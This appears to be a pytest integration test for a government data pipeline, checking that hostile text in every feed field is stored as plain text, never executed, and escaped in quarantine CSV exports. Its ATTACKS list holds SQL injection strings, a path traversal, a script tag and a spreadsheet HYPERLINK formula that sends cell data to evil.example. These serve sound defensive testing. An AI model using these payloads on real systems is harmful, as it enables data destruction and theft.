"""SQL, formulas, paths and templates in every text of every feed: kept as the text that it is, run by nothing.

Each feed's real contract and suite, from a file in the drop folder to the marts, the quarantine's export and the index.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pytest
import yaml

from dti import flow, lake
from dti.feeds import feed_names, load_contract
from dti.quarantine import Wanted, held_rows, write_export
from dti.settings import Settings, get_settings
from dti.warehouse import connect
from tests.conftest import PROJECT
from tests.unit.gate.conftest import good  # noqa: F401 - the fixture
from tests.unit.hostile.test_exports import STARTS_A_FORMULA

NIGHT = date(2025, 8, 10)
SOUND_ROWS = 12
ATTACKS = (
    "'; drop table ops.batch cascade; --",
    "x') union select passwd from pg_shadow --",
    "\"; attach '/tmp/pwned.db'; --",
    "%s %(x)s :name $1 {0} {{7*7}}",
    "../../../secrets.json",
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "<script>alert(1)</script>",
)
FEEDS = feed_names(PROJECT / "include" / "feeds")
NOT_SENT = {"unit", "source_row", "applicant_ref"}
"""The unit is named apart, the place is ours, and the pseudonym is made from a person."""
Good = Callable[..., dict[str, str | None]]


@pytest.fixture
def project(warehouse: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """One source a feed, whose agency and owner are called as badly as its texts."""
    folder = tmp_path / "sources"
    folder.mkdir()
    for feed in FEEDS:
        columns = [name for name in load_contract(feed).landed_columns if name not in NOT_SENT]
        source = {
            "source": feed.replace("_", "-"), "feed": feed, "agency": ATTACKS[0], "owner": ATTACKS[1],
            "licence": ATTACKS[2], "unit": {"field": "unit"}, "connector": {"type": "tabular", "path": f"{feed}.csv"},
            "fields": {name: name for name in columns},
        }  # fmt: skip
        (folder / f"{source['source']}.yml").write_text(yaml.safe_dump(source, allow_unicode=True), "utf-8")
    (warehouse.home_dir / "drop").mkdir()
    monkeypatch.setenv("DTI_SOURCES", str(folder))
    get_settings.cache_clear()
    return get_settings()


def spoilt(feed: str, good: Good) -> list[dict[str, str | None]]:  # noqa: F811
    """For every text and every attack a row that is sound but for that, each with a key of its own; and sound ones."""
    texts = ["unit", *(name for name, column in load_contract(feed).columns.items() if column.type == "string")]
    texts = [name for name in texts if name != "applicant_ref"]
    rows = [good(feed, **{name: attack}) for name in texts for attack in ATTACKS]
    return rows + [good(feed) for _ in range(SOUND_ROWS * len(rows))]


def ask(settings: Settings, question: str) -> list[tuple[Any, ...]]:
    with connect.connect(settings, "owner") as driver:
        return driver.execute(question.encode()).fetchall()


def catalogue(settings: Settings) -> list[tuple[Any, ...]]:
    """What there is in the warehouse, and how much of what no night may change."""
    relations = ask(
        settings,
        "select n.nspname, c.relname, c.relkind from pg_class as c join pg_namespace as n on n.oid = c.relnamespace"
        " where n.nspname in ('ops', 'facts', 'score', 'marts', 'annual') and not c.relispartition order by 1, 2, 3",
    )
    return [*relations, *ask(settings, "select rolname, rolsuper from pg_roles order by 1"),
            *ask(settings, "select count(*) from marts.published_index")]  # fmt: skip


def texts_of_the_lake(feed: str, settings: Settings) -> set[str]:
    names = [name for name, column in load_contract(feed).columns.items() if column.type == "string"]
    partitions = lake.changed_partitions(feed, None, settings=settings)
    table = duckdb.read_parquet(lake.files(feed, partitions, settings=settings))
    return {text for row in table.select(*names).fetchall() for text in row if text}


def test_a_text_is_never_more_than_a_text(project: Settings, good: Good, tmp_path: Path) -> None:  # noqa: F811
    before, outside = catalogue(project), sorted(path.name for path in project.home_dir.parent.iterdir())
    for feed in FEEDS:
        rows = spoilt(feed, good)
        with (project.home_dir / "drop" / f"{feed}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
        flow.extract(feed.replace("_", "-"), NIGHT, settings=project)
        flow.gate(feed, NIGHT, settings=project)
        flow.load(feed, NIGHT, settings=project)
        landed, loaded, held, status = ask(
            project, f"select rows_landed, rows_loaded, rows_quarantined, status from ops.batch where feed = '{feed}'"
        )[0]
        assert (status, landed) == ("passed", len(rows)) == ("passed", loaded + held), feed

        quarantined = {text for row in held_rows(Wanted(feed=feed), settings=project) for text in row.record.values()}
        assert set(ATTACKS) <= quarantined, "a unit of no such name, as it was sent"
        free = {"declarations", "online_services", "platform_inventory", "service_catalogue", "staffing"}
        assert feed not in free or set(ATTACKS) <= texts_of_the_lake(feed, project), feed
    flow.compute(NIGHT, settings=project)

    assert catalogue(project) == before
    assert sorted(path.name for path in project.home_dir.parent.iterdir()) == outside
    assert ask(project, "select distinct agency from marts.feed_freshness") == [(ATTACKS[0],)]
    out = tmp_path / "gui-lai.csv"
    write_export(list(held_rows(Wanted(feed="staffing"), settings=project)), out, settings=project)
    cells = [cell for line in csv.reader(io.StringIO(out.read_text("utf-8-sig"))) for cell in line]
    assert f"'{ATTACKS[5]}" in cells
    assert not [cell for cell in cells if cell.startswith(STARTS_A_FORMULA) and not re.fullmatch(r"[-+0-9.,]+", cell)]
